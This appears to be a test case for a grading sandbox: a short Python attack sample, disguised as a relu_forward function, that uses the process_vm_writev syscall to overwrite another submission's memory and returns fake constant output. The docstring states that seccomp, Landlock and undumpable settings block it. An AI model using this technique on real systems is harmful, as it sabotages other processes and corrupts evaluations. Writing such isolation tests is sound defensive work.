"""Writes into another submission's memory, to spoil its answers.

held by: undumpable, seccomp, Landlock
only as: user
"""

import ctypes
import platform

NUMBER = {"x86_64": 311, "aarch64": 271}[platform.machine()]  # process_vm_writev
ITS_SECRET = 0x10000000000


def relu_forward(x):
    here = ctypes.create_string_buffer(b"secret")
    local = (ctypes.c_size_t * 2)(ctypes.addressof(here), 6)
    there = (ctypes.c_size_t * 2)(ITS_SECRET, 6)
    assert ctypes.CDLL(None).syscall(NUMBER, int("@VICTIM"), local, 1, there, 1, ctypes.c_long()) == 6
    return np.full(x.shape, 42.0), x
